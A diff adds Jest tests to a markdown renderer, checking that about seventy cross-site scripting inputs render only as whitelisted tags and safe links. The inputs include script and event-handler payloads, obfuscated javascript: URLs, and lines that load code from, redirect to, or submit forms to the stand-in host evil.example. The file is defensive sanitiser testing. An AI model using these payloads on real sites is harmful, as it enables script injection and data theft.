@@ -1,3 +1,4 @@
+/** @jest-environment jsdom */
 import { renderMarkdown } from './renderMarkdown';
 
 it.each([
@@ -21,4 +22,96 @@ it('lets the words of a picture stand for it, so that no other host is asked', (
 
 it.each(['javascript:alert(1)', 'data:text/html,x', 'page'])('makes no link of %s', (address) => {
   expect(renderMarkdown(`[*ici*](${address})`)).toBe('<p><em>ici</em></p>');
+});
+
+const allowed = new Set(
+  'p strong em a ul ol li blockquote h1 h2 h3 h4 h5 h6 pre code br hr'.split(' ').map((name) => name.toUpperCase()),
+);
+
+const script = '<script>alert(1)</script>';
+
+// In the spirit of OWASP's cheat sheet of ways past a filter; the first ones once passed ours.
+const attacks = [
+  `![${script}](x)`,
+  'Ici ![<img src=x onerror=alert(1)>](https://example.org/x.jpg) fin',
+  '<kbd><img/src=x onerror=alert(1)></kbd>',
+  '`a` <code><img src=x onerror=alert(1)></code>',
+  `x <script>alert(1)<svg/onload=alert(2)></script>`,
+  '![<meta http-equiv=refresh content="0;url=https://evil.example">](x)',
+  script,
+  `a\n\n${script}\n\nb`,
+  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script\n>alert(1)</script\n>',
+  '<<script>alert(1);//<</script>',
+  '<script/x>alert(1)</script>',
+  '<script>alert(1)',
+  '<img src="javascript:alert(1);">',
+  '<img src=x onerror="alert(1)">',
+  '<img """><script>alert(1)</script>">',
+  '<img src=# onmouseover="alert(1)">',
+  '<img src="x` `<script>alert(1)</script>"` `>',
+  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
+  '<svg onload=alert(1)>',
+  '<svg><script xlink:href="data:,alert(1)"></script></svg>',
+  '<body onload=alert(1)>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="data:image/svg+xml;base64,PHN2Zy8+">',
+  '<base href="https://evil.example/">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<div style="background:url(javascript:alert(1))">x</div>',
+  '<form action="https://evil.example"><input name=q></form>',
+  '<details open ontoggle=alert(1)>',
+  '<math><mtext></p><img src=x onerror=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?xml <img src=x onerror=alert(1)>?>',
+  '<a href="javascript:alert(1)">x</a>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '[x](&#x6A&#x61;vascript:alert(1))',
+  '[x](java&Tab;script:alert(1))',
+  '[x](<java\tscript:alert(1)>)',
+  '[x](< javascript:alert(1)>)',
+  '[x](\u0001javascript:alert(1))',
+  '[x](vbscript:msgbox(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[x](https://example.org" onclick="alert(1))',
+  '[x](https://example.org "t\\" onclick=\\"alert(1)")',
+  "[x](https://example.org 't' onclick=alert(1))",
+  '[x][r]\n\n[r]: javascript:alert(1)',
+  '[x][r]\n\n[r]: https://example.org "\\"><script>alert(1)</script>"',
+  '<javascript:alert(1)>',
+  '<https://example.org/"onclick="alert(1)>',
+  'https://example.org/"onmouseover="alert(1)',
+  '[![<script>alert(1)</script>](x)](javascript:alert(1))',
+  '![x](x "\\"><img src=x onerror=alert(1)>")',
+  '![x" onerror="alert(1)](x)',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;img src=x onerror=alert(1)&#62;',
+  '\\<script>alert(1)\\</script>',
+  '```html"><script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
+  '``<script>alert(1)</script>``',
+  '# <img src=x onerror=alert(1)>',
+  '> <script>alert(1)</script>',
+  '- <svg/onload=alert(1)>',
+  '|<img src=x onerror=alert(1)>|\n|-|\n|x|',
+];
+
+it.each(attacks)('shows as text what would break the page: %s', (attack) => {
+  const template = document.createElement('template');
+  template.innerHTML = renderMarkdown(attack);
+  for (const element of template.content.querySelectorAll('*')) {
+    expect(allowed).toContain(element.tagName);
+    for (const { name, value } of element.attributes) {
+      // A block of code carries the name of its language.
+      expect(['href', 'title', 'start', 'class']).toContain(name);
+      if (name === 'href') expect(new URL(value, 'https://site.example').protocol).toMatch(/^(https?|mailto|tel):$/);
+    }
+  }
 });
